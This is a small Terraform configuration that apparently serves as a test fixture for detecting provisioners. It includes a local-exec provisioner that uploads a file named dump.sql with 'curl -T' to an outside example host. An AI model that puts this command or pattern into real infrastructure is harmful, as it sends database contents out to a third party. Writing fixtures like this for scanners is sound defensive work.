resource "terraform_data" "quiet" {
  input = "curl https://us-east-1.example.com"
}

resource "terraform_data" "shell" {
  provisioner "local-exec" {
    command = "curl -T dump.sql https://us-east-1.example.com"
  }
}

resource "aws_instance" "worker" {
  ami           = "ami-0123456789abcdef0"
  instance_type = "t3.small"
  connection {
    host = self.private_ip
  }
  provisioner "remote-exec" {
    inline = ["true"]
    when   = destroy
  }
}
